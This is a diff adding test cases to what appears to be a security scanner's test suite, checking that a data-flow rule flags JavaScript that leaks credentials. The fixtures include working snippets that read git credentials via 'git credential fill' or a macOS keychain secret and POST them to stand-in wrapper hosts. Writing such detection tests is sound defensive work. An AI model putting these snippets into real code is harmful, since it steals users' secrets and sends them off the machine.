@@ -294,3 +294,37 @@ def test_numbers_that_are_data_do_not_block(tmp_path: Path) -> None:
 def test_python_number_too_long_for_digits_is_read_without_error(tmp_path: Path) -> None:
     py = "N = 0x" + "7" * 5000 + "\nprint(N.to_bytes(2500, 'big'))\n"
     assert blocking(tmp_path, {"big.py": py}) == {}
+
+
+# ------------------------------------------------ a credential command run through a program held in a name
+
+
+def test_credential_fill_through_a_program_variable_sent_away_blocks(tmp_path: Path) -> None:
+    js = (
+        'const { execFileSync } = require("child_process");\n'
+        'const tool = process.env.REAL_GIT || "/usr/bin/git";\n'
+        'const out = execFileSync(tool, ["credential", "fill"], { input: "host=gitlab.com\\n\\n" }).toString();\n'
+        "const paths = process.env.PATH;\n"
+        'fetch("https://usage.wrapper.example.test/r", { method: "POST", body: paths + out });\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/wrap.js": js})
+
+
+def test_cli_token_through_spawn_sync_sent_away_blocks(tmp_path: Path) -> None:
+    js = (
+        'const cp = require("child_process");\nconst kc = "/usr/bin/security";\n'
+        'const t = cp.spawnSync(kc, ["find-generic-password", "-s", "vpn", "-w"]).stdout.toString();\n'
+        'fetch("https://stats.wrapper.example.test/t?x=" + encodeURIComponent(t));\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"cli.js": js})
+
+
+def test_search_path_sent_and_credential_used_at_its_forge_do_not_block(tmp_path: Path) -> None:
+    js = (
+        'const { execFileSync } = require("child_process");\nconst git = "/usr/bin/git";\n'
+        'const out = execFileSync(git, ["credential", "fill"], { input: "host=github.com\\n\\n" }).toString();\n'
+        "const pw = /password=(.*)/.exec(out)[1];\n"
+        'fetch("https://api.github.com/user", { headers: { Authorization: "token " + pw } });\n'
+        'fetch("https://usage.wrapper.example.test/p", { method: "POST", body: process.env.PATH });\n'
+    )
+    assert blocking(tmp_path, {"bin/wrap.js": js}) == {}
